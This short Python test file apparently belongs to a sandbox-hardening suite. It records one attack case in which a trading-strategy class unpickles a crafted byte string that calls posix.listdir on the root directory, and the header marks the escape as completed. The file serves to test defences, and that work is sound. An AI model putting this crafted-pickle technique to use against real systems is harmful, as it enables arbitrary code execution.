# id: L38
# family: language
# goal: call a function by unpickling a crafted text
# finding: PY302
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import pickle


def attack(ctx, bar):
    return pickle.loads(b"cposix\nlistdir\n(S'/'\ntR.")[:3]


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
